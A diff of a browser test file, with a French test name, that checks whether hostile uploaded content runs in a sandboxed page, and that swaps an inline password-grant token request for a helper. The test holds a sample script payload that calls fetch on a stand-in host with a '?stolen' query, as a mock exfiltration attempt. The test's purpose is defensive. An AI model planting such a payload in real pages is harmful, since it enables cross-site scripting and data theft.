@@ -1,5 +1,5 @@
 import { expect } from '../../support/expectations.js';
-import { demoPassword, test } from '../../support/people.js';
+import { test, tokenOf } from '../../support/people.js';
 
 const script = '(function(){ alert(1); fetch("https://elsewhere.example/?stolen"); })()';
 const hostile = [
@@ -16,8 +16,7 @@ const hostile = [
 ];
 
 test('ce que des gens malveillants déposent ne fait rien dans le navigateur', async ({ browser, request }) => {
-  const grant = { grant_type: 'password', username: 'admin', password: demoPassword, rememberMe: 'false' };
-  const { access_token: token } = await (await request.post('/token', { form: grant })).json();
+  const token = await tokenOf(request, 'admin');
   // A window of its own: that the browser reports what the sandbox stopped is what is wanted here.
   const page = await browser.newPage();
   const heard: string[] = [];
